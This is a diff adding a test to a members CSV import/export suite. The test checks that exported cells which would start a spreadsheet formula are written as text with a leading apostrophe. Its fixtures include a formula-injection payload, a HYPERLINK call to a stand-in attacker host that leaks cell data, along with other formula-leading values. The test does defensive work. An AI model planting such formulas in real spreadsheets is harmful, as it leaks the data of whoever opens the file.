@@ -95,6 +95,33 @@ describe("tuesday members export", () => {
   });
 });
 
+describe("tuesday members export, formulas", () => {
+  it("writes cells a spreadsheet would run as formulas as text, as the console's export does", async () => {
+    const file = path.join(tmp, "formulas.csv");
+    const cells = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+SUM(A1:A9)", "-1+1", "@SUM(A1)", "\t=1+1", "\r=2+2"];
+    const rows = cells.map((c, i) => `Formula${String.fromCharCode(65 + i)} Person,formula${i}@export.example,"${c.replaceAll('"', '""')}"`);
+    await fs.writeFile(file, `name,email,company\n${rows.join("\n")}\n`);
+    const imported = await runCli(["members", "import", "--community", "beta", file]);
+    expect(imported.code, imported.stderr).toBe(0);
+    const stored = await env.db<{ company: string }[]>`
+      select p.company from participants p join users u on u.id = p.user_id where p.community_id = 'beta' and u.email like 'formula%@export.example' order by u.email`;
+    expect(stored.map((r) => r.company)).toEqual(cells.map((c) => c.trim()));
+
+    const out = path.join(tmp, "formulas-out.csv");
+    const r = await runCli(["members", "export", "--community", "beta", "--out", out]);
+    expect(r.code, r.stderr).toBe(0);
+    const text = await fs.readFile(out, "utf8");
+    expect(text.startsWith("\uFEFFemail,")).toBe(true);
+    const { parse } = await import("csv-parse/sync");
+    const records = parse(text, { bom: true, columns: true }) as Record<string, string>[];
+    for (const [i, c] of stored.map((s) => s.company).entries()) {
+      expect(records.find((rec) => rec.email === `formula${i}@export.example`)?.company).toBe(`'${c}`);
+    }
+    // No cell of the file starts a formula.
+    for (const rec of records) for (const v of Object.values(rec)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
+  });
+});
+
 describe("tuesday members import, resumed", () => {
   it("imports only the rows no committed batch of a stopped run covered (batches commit out of order)", async () => {
     const file = path.join(tmp, "resume.csv");
